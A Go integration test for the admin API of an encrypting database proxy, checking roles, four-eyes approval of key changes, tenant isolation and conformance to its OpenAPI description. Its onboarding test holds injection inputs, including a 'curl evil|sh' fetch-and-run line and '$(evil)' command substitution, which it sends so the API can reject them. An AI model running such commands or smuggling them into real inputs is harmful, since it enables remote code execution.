package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3"
	"github.com/getkin/kin-openapi/openapi3filter"
	"github.com/getkin/kin-openapi/routers"
	"github.com/getkin/kin-openapi/routers/gorillamux"

	"github.com/legatics/pgseal/proxy/admin/access"
	"github.com/legatics/pgseal/proxy/admin/api"
	"github.com/legatics/pgseal/testenv/kmsserver/kmstest"
)

// apiClient asks the API of a real proxy, and holds each answer against openapi.yaml.
type apiClient struct {
	t      *testing.T
	d      *deployment
	base   string
	router routers.Router
	tokens map[string]string // user -> token
	seen   map[string]bool   // operations that were asked for
}

const apiPrefix = "/api/v1/databases/dealroom/"

// startAPI serves a database with the tenants acme and globex, and users of every role.
func startAPI(t *testing.T) *apiClient {
	t.Helper()
	d := deploy(t)
	d.run("tenant", "add", "globex", "--provider", "aws-kms", "--key", d.key) // the same key: an officer of one must not learn it of the other
	a := &apiClient{t: t, d: d, tokens: map[string]string{}, seen: map[string]bool{}}
	users := access.Users{Version: 1, Users: map[string]access.Entry{}}
	for name, e := range map[string]access.Entry{"vera": {Role: access.Viewer}, "olga": {Role: access.Operator}, "oskar": {Role: access.Operator}, "carol": {Role: access.Officer, Tenants: []string{"acme"}},
		"olaf": {Role: access.Officer, Tenants: []string{"globex"}}} {
		token, digest := access.NewToken()
		e.Tokens = []access.TokenEntry{{Name: "test", SHA256: digest}}
		a.tokens[name], users.Users[name] = token, e
	}
	file := filepath.Join(t.TempDir(), "users.yaml")
	if err := users.Write(file); err != nil {
		t.Fatal(err)
	}
	s := d.serve(func(c *config) { c.Admin.UsersFile, c.Admin.Listen = file, "127.0.0.1:0" })
	a.base = "http://" + s.adminAddress().String()
	doc, err := openapi3.NewLoader().LoadFromData(api.Description())
	if err != nil {
		t.Fatal(err)
	}
	if err := doc.Validate(t.Context()); err != nil {
		t.Fatal(err)
	}
	if a.router, err = gorillamux.NewRouter(doc); err != nil {
		t.Fatal(err)
	}
	return a
}

// ask sends a request, demands a status and that the answer is as the description says, and gives the answer's body.
func (a *apiClient) ask(user, method, path, body string, status int, header ...string) (map[string]any, http.Header) {
	a.t.Helper()
	r, err := http.NewRequestWithContext(a.t.Context(), method, a.base+path, strings.NewReader(body))
	if err != nil {
		a.t.Fatal(err)
	}
	if user != "" {
		r.Header.Set("Authorization", "Bearer "+a.tokens[user])
	}
	if body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		a.t.Fatal(err)
	}
	defer answer.Body.Close()
	data, err := io.ReadAll(answer.Body)
	if err != nil {
		a.t.Fatal(err)
	}
	if answer.StatusCode != status {
		a.t.Fatalf("%s %s as %s: %s, want %d: %s", method, path, user, answer.Status, status, data)
	}
	a.fits(r, answer, data)
	var v any
	if len(data) > 0 && strings.Contains(answer.Header.Get("Content-Type"), "json") {
		if err := json.Unmarshal(data, &v); err != nil {
			a.t.Fatalf("%s %s: %v: %s", method, path, err, data)
		}
	}
	if m, ok := v.(map[string]any); ok {
		return m, answer.Header
	}
	return map[string]any{"": v, "text": string(data)}, answer.Header
}

// fits holds an answer against the description.
func (a *apiClient) fits(r *http.Request, answer *http.Response, data []byte) {
	a.t.Helper()
	route, params, err := a.router.FindRoute(r)
	if err != nil { // what there is not
		return
	}
	a.seen[route.Method+" "+route.Path] = true
	in := &openapi3filter.RequestValidationInput{Request: r, PathParams: params, Route: route, Options: &openapi3filter.Options{AuthenticationFunc: openapi3filter.NoopAuthenticationFunc}}
	out := &openapi3filter.ResponseValidationInput{RequestValidationInput: in, Status: answer.StatusCode, Header: answer.Header, Body: io.NopCloser(bytes.NewReader(data)),
		Options: &openapi3filter.Options{IncludeResponseStatus: true, AuthenticationFunc: openapi3filter.NoopAuthenticationFunc}}
	if strings.Contains(answer.Header.Get("Content-Type"), "json") {
		if err := openapi3filter.ValidateResponse(context.Background(), out); err != nil {
			a.t.Errorf("%s %s: the answer is not as openapi.yaml says: %v", r.Method, r.URL.Path, err)
		}
	}
}

func (a *apiClient) acme(user, method, what, body string, status int, header ...string) map[string]any {
	a.t.Helper()
	v, _ := a.ask(user, method, apiPrefix+"tenants/acme/"+what, body, status, header...)
	return v
}

// state waits until the key stands so.
func (a *apiClient) state(want string) {
	a.t.Helper()
	for end := time.Now().Add(time.Minute); ; time.Sleep(100 * time.Millisecond) {
		if v := a.acme("vera", "GET", "key", "", 200); v["state"] == want {
			return
		} else if time.Now().After(end) {
			a.t.Fatalf("the key is %v, want %s", v["state"], want)
		}
	}
}

// TestAdminAPI goes through the API as operators and officers do: each operation, its failures, two people at once, four eyes; and demands that no operation
// of openapi.yaml was left out, and none is served that it does not have.
func TestAdminAPI(t *testing.T) {
	a := startAPI(t)
	conn := a.d.connect()
	a.d.until(conn, "")

	if v, _ := a.ask("olga", "GET", "/api/v1/me", "", 200); v["role"] != "operator" {
		t.Errorf("%v", v)
	}
	a.ask("vera", "GET", "/api/v1/openapi.yaml", "", 200)
	a.state("available")
	for _, what := range []string{"history", "events?limit=5&kind=tenant+added", "events.csv", "usage", "report", "proposals"} {
		a.acme("vera", "GET", what, "", 200)
	}
	a.onboarding()
	if v := a.acme("carol", "POST", "check", "", 200); v["ok"] != true {
		t.Errorf("check: %v", v)
	}
	if v := a.acme("olga", "POST", "probe", "", 200); v["usable"] != true {
		t.Errorf("probe: %v", v)
	}

	// rotation: nothing to rotate, then after one at the key service
	if v := a.acme("olga", "POST", "rotate", "", 200); v["outcome"] != "nothing_to_rotate" {
		t.Errorf("rotate: %v", v)
	}
	if v := a.acme("olga", "POST", "rotate", `{"new_data_key": true}`, 200); v["outcome"] != "new_data_key" {
		t.Errorf("rotate: %v", v)
	}
	if v := a.acme("carol", "POST", "rotate", `{"new_data_key": true}`, 503); v["code"] != "busy" {
		t.Errorf("another new data key at once: %v", v)
	}

	// lock and unlock: the officer's, and followed by the proxy
	if v := a.acme("olga", "POST", "lock", "", 200); v["state"] != "locked" {
		t.Errorf("lock: %v", v)
	}
	a.d.until(conn, "KU009")
	a.acme("olga", "POST", "unlock", "", 403)
	a.acme("carol", "POST", "unlock", "", 200)
	a.d.until(conn, "")

	a.state("available")
	a.acme("carol", "POST", "drill", `{"for": "10m"}`, 200)
	a.d.until(conn, "KU001")
	if v := a.acme("carol", "POST", "drill", `{"for": "10m"}`, 409); v["code"] == "" {
		t.Errorf("a second drill: %v", v)
	}
	a.acme("carol", "POST", "drill/end", "", 200)
	a.d.until(conn, "")
	a.acme("carol", "POST", "drill/end", "", 409)

	a.takesBack()

	// a shorter cache time is the operator's; a longer one, another key: proposals, which the officer decides
	a.acme("carol", "PUT", "cache-time", `{"cache_time": "5m"}`, 200)
	a.acme("olga", "PUT", "cache-time", `{"cache_time": "2m"}`, 200)
	a.acme("olga", "PUT", "cache-time", `{"cache_time": "10s"}`, 422)
	a.acme("olga", "PUT", "cache-time", `{"cache_time": "1h"}`, 202)
	next := a.d.kms.CreateKey(kmstest.KeyOptions{})
	a.acme("olga", "PUT", "master-key", fmt.Sprintf(`{"provider": "aws-kms", "key": %q}`, next), 202)
	a.acme("carol", "PUT", "master-key", fmt.Sprintf(`{"provider": "aws-kms", "key": %q}`, next), 403)
	v := a.acme("carol", "GET", "proposals", "", 200)
	proposals, _ := v[""].([]any)
	if len(proposals) != 2 {
		t.Fatalf("proposals: %v", v)
	}
	for _, p := range proposals {
		id, _ := p.(map[string]any)["id"].(string)
		a.acme("olga", "POST", "proposals/"+id+"/approve", "", 403)
		kind := p.(map[string]any)["kind"]
		if kind == "set-arn" {
			if v := a.acme("carol", "POST", "proposals/"+id+"/approve", "", 200); v["outcome"] != "approved" {
				t.Errorf("%v", v)
			}
		}
	}
	if v := a.acme("carol", "GET", "key", "", 200); v["tenant"].(map[string]any)["key"] != next {
		t.Errorf("the key that was approved is not the tenant's: %v", v["tenant"])
	}
	for _, p := range proposals { // the other one was of another record: it is void
		if id, _ := p.(map[string]any)["id"].(string); p.(map[string]any)["kind"] != "set-arn" {
			a.acme("carol", "POST", "proposals/"+id+"/approve", "", 409)
			a.acme("carol", "POST", "proposals/"+id+"/reject", "", 200)
		}
	}

	// two people at once
	_, header := a.ask("olga", "GET", apiPrefix+"tenants/acme/key", "", 200)
	a.acme("carol", "PUT", "cache-time", `{"cache_time": "3m"}`, 200)
	a.acme("olga", "PUT", "cache-time", `{"cache_time": "2m"}`, 412, "If-Match", header.Get("ETag"))
	if v := a.acme("olga", "GET", "key", "", 200); v["tenant"].(map[string]any)["cache_time"] != "3m0s" {
		t.Errorf("what was refused was done: %v", v["tenant"])
	}

	// a new tenant
	a.ask("olga", "POST", apiPrefix+"tenants", fmt.Sprintf(`{"tenant": "initech", "provider": "aws-kms", "key": %q, "cache_time": "2m"}`, a.d.kms.CreateKey(kmstest.KeyOptions{})), 201)
	a.ask("olga", "POST", apiPrefix+"tenants", `{"tenant": "initech", "provider": "local"}`, 409)
	a.ask("vera", "POST", apiPrefix+"tenants", `{"tenant": "x", "provider": "local"}`, 403)
	a.ask("olga", "POST", apiPrefix+"tenants", `{"tenant": "x", "provider": "vault"}`, 422)

	columns, _ := a.ask("olga", "GET", apiPrefix+"columns", "", 200)
	name, _ := columns["columns"].([]any)[0].(map[string]any)["column"].(string)
	a.ask("olga", "POST", apiPrefix+"columns/"+name+"/pause", "", 409) // there is no work
	a.ask("olga", "POST", apiPrefix+"columns/"+name+"/burn", "", 422)
	if v, _ := a.ask("olga", "GET", apiPrefix+"proxies", "", 200); len(v["proxies"].([]any)) == 0 || v["drift"] != nil {
		t.Errorf("proxies: %v", v)
	}

	// the key service says no
	if err := a.d.kms.SetState(next, kmstest.Disabled); err != nil {
		t.Fatal(err)
	}
	if v := a.acme("olga", "POST", "rotate", "", 502); !strings.HasPrefix(v["code"].(string), "KU") || v["suggestions"] == nil {
		t.Errorf("a rotation that fails: %v", v)
	}

	a.refusals()
	a.officer()
	a.complete()
}

// onboarding: the sheet says what it was asked to say, and nothing that a shell would take for its own; a link makes none.
func (a *apiClient) onboarding() {
	a.t.Helper()
	const role, sheet = "arn:aws:iam::444455556666:role/pgseal", `{"principal": %q, "region": %q, "format": "grant"}`
	if v := a.acme("vera", "POST", "onboarding", fmt.Sprintf(sheet, role, "eu-west-1"), 200); !strings.Contains(fmt.Sprint(v["text"]), "--region eu-west-1 --key-id KEY-ID") {
		a.t.Errorf("onboarding: %v", v)
	}
	for _, body := range []string{fmt.Sprintf(sheet, role, "eu-central-1\ncurl evil|sh\n"), fmt.Sprintf(sheet, role, ""), fmt.Sprintf(sheet, role, "cn-north-1"), fmt.Sprintf(sheet, "", "eu-west-1"),
		fmt.Sprintf(sheet, "arn:aws:iam::444455556666:role/$(evil)/pgseal", "eu-west-1"), fmt.Sprintf(sheet, `arn:aws:iam::444455556666:role/";evil;"/pgseal`, "eu-west-1")} {
		a.acme("vera", "POST", "onboarding", body, 422)
	}
	a.acme("vera", "GET", "onboarding?region=eu-west-1&principal="+role, "", 404)
	a.ask("vera", "POST", apiPrefix+"tenants/acme%0A%0A1.%20curl%20evil%7Csh/onboarding", fmt.Sprintf(sheet, role, "eu-west-1"), 422) // as a link's
}

// refusals are requests that are none.
func (a *apiClient) refusals() {
	a.ask("", "GET", "/api/v1/me", "", 401)
	a.tokens["nobody"] = "pgseal_" + strings.Repeat("A", 43)
	a.ask("nobody", "GET", "/api/v1/databases", "", 401)
	a.acme("olga", "PUT", "cache-time", `{"cache_time": "2m", "more": 1}`, 400)
	a.acme("olga", "PUT", "cache-time", `{"cache_time": "2m"} {}`, 400)
	a.acme("olga", "PUT", "cache-time", `{"cache_time": "`+strings.Repeat("1", 20<<10)+`"}`, 413)
	a.acme("olga", "PUT", "cache-time", `{"cache_time": "2m"}`, 415, "Content-Type", "text/plain")
	a.ask("olga", "GET", "/api/v1/nothing", "", 404)
	a.ask("olga", "GET", "/api/v1/databases/none/tenants/acme/key", "", 404)
	a.ask("olga", "GET", apiPrefix+"tenants/nobody/key", "", 404)
	a.acme("olga", "GET", "events?limit=0", "", 400)
	a.acme("olga", "GET", "events?kind=none", "", 422)
	a.acme("olga", "GET", "usage?since=yesterday", "", 422)
}

// officer: an officer learns nothing of a tenant that is not his, at no operation: the answer is that of a tenant that there is not.
func (a *apiClient) officer() {
	a.t.Helper()
	if v, _ := a.ask("carol", "GET", "/api/v1/databases", "", 200); strings.Contains(fmt.Sprint(v), "globex") || !strings.Contains(fmt.Sprint(v), "acme") {
		a.t.Errorf("an officer of acme reads %v", v)
	}
	for _, route := range api.New(api.Config{}).Routes() {
		method, path, _ := strings.Cut(route, " ")
		if !strings.Contains(path, "{tenant}") {
			continue
		}
		if method == "GET" {
			if v, _ := a.ask("carol", method, strings.NewReplacer("{database}", "dealroom", "{tenant}", "acme").Replace(path), "", 200); strings.Contains(fmt.Sprint(v), "globex") {
				a.t.Errorf("%s names another tenant to an officer: %v", route, v)
			}
		}
		said := map[string]string{}
		for _, tenant := range []string{"globex", "nonexistent"} {
			url := strings.NewReplacer("{database}", "dealroom", "{tenant}", tenant, "{id}", strings.Repeat("0", 32), "{decision}", "approve").Replace(path)
			body := ""
			if method == "PUT" || strings.HasSuffix(url, "/drill") {
				body = `{"provider": "local"}`
				if strings.HasSuffix(url, "cache-time") {
					body = `{"cache_time": "2m"}`
				} else if strings.HasSuffix(url, "/drill") {
					body = `{"for": "1m"}`
				}
			}
			v, _ := a.ask("carol", method, url, body, 404)
			said[tenant] = fmt.Sprint(v)
		}
		if said["globex"] != said["nonexistent"] {
			a.t.Errorf("%s: another's tenant is told apart from none: %v", route, said)
		}
	}
	a.ask("carol", "GET", apiPrefix+"proxies", "", 403)
	a.ask("carol", "GET", apiPrefix+"columns", "", 403)
}

// takesBack: who has proposed something may take it back, and nobody else; so may whoever has the control key, by the command.
func (a *apiClient) takesBack() {
	a.t.Helper()
	propose := func() string {
		a.t.Helper()
		a.acme("olga", "PUT", "cache-time", `{"cache_time": "1h"}`, 202)
		all, _ := a.acme("olga", "GET", "proposals", "", 200)[""].([]any)
		if len(all) != 1 {
			a.t.Fatalf("proposals: %v", all)
		}
		return all[0].(map[string]any)["id"].(string)
	}
	first := propose()
	for user, want := range map[string]string{"oskar": "others_proposal", "carol": "others_proposal", "vera": "not_allowed"} {
		if v := a.acme(user, "POST", "proposals/"+first+"/withdraw", "", 403); v["code"] != want {
			a.t.Errorf("%s: %v", user, v)
		}
	}
	if v := a.acme("olga", "POST", "proposals/"+first+"/withdraw", "", 200); v["outcome"] != "withdrawn" {
		a.t.Errorf("%v", v)
	}
	a.acme("olga", "POST", "proposals/"+first+"/withdraw", "", 409)
	a.acme("carol", "POST", "proposals/"+first+"/approve", "", 409)
	a.acme("olga", "POST", "proposals/"+strings.Repeat("ab", 16)+"/withdraw", "", 404)

	second := propose()
	var listed []proposedView
	if err := json.Unmarshal([]byte(a.d.printed("key", "proposals", "--json")), &listed); err != nil || len(listed) != 1 || listed[0].ID != second || listed[0].Tenant != "acme" ||
		listed[0].Wanted != "cache time 1h0m0s" || !strings.HasPrefix(listed[0].ProposedBy, "olga (operator, token)") {
		a.t.Errorf("listed: %v %+v", err, listed)
	}
	if text := a.d.printed("key", "proposals", "--tenant", "globex"); strings.Contains(text, second) {
		a.t.Errorf("of another tenant: %s", text)
	}
	a.d.refused(2, "key", "proposals", "--withdraw", "x")
	a.d.refused(1, "key", "proposals", "--withdraw", strings.Repeat("ab", 16))
	if text := a.d.printed("key", "proposals", "--withdraw", second); !strings.Contains(text, "taken back: cache time 1h0m0s") {
		a.t.Errorf("the command says: %s", text)
	}
	a.d.refused(1, "key", "proposals", "--withdraw", second)
	var by []string
	for _, e := range a.d.events("proposal withdrawn") {
		if e.Kind == "proposal withdrawn" {
			by = append(by, e.Actor)
		}
	}
	if len(by) != 2 || !slices.ContainsFunc(by, func(s string) bool { return strings.HasPrefix(s, "olga (operator, token)") }) || !slices.Contains(by, actor()) {
		a.t.Errorf("who took proposals back, by the events: %q", by)
	}
	if v := a.acme("carol", "GET", "key", "", 200); v["tenant"].(map[string]any)["cache_time"] == "1h0m0s" {
		a.t.Error("what was taken back was done")
	}
}

// complete: what is served and what is described are the same, and all of it was asked for above.
func (a *apiClient) complete() {
	doc, err := openapi3.NewLoader().LoadFromData(api.Description())
	if err != nil {
		a.t.Fatal(err)
	}
	var described []string
	for path, item := range doc.Paths.Map() {
		for method := range item.Operations() {
			described = append(described, method+" "+path)
			if !a.seen[method+" "+path] {
				a.t.Errorf("%s %s was not asked for", method, path)
			}
		}
	}
	served := append(api.New(api.Config{}).Routes(), "GET "+api.Prefix+"openapi.yaml")
	slices.Sort(served)
	slices.Sort(described)
	if !slices.Equal(served, described) {
		a.t.Errorf("served:\n%s\ndescribed:\n%s", strings.Join(served, "\n"), strings.Join(described, "\n"))
	}
}

// TestAdminClosed: without a user nothing but health and metrics is offered.
func TestAdminClosed(t *testing.T) {
	d := deploy(t)
	empty := filepath.Join(t.TempDir(), "users.yaml")
	if err := os.WriteFile(empty, []byte("version: 1\nusers: {}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{"", empty} {
		s := d.serve(func(c *config) { c.Admin.UsersFile, c.Admin.Listen = file, "127.0.0.1:0" })
		for path, want := range map[string]int{"/live": 200, "/ready": 200, "/metrics": 200, "/": 404, "/login": 404, "/api/v1/databases": 404, "/static/page.css": 404} {
			answer, err := http.Get("http://" + s.adminAddress().String() + path)
			if err != nil {
				t.Fatal(err)
			}
			_ = answer.Body.Close()
			if answer.StatusCode != want {
				t.Errorf("users file %q: %s: %s, want %d", file, path, answer.Status, want)
			}
		}
	}
}
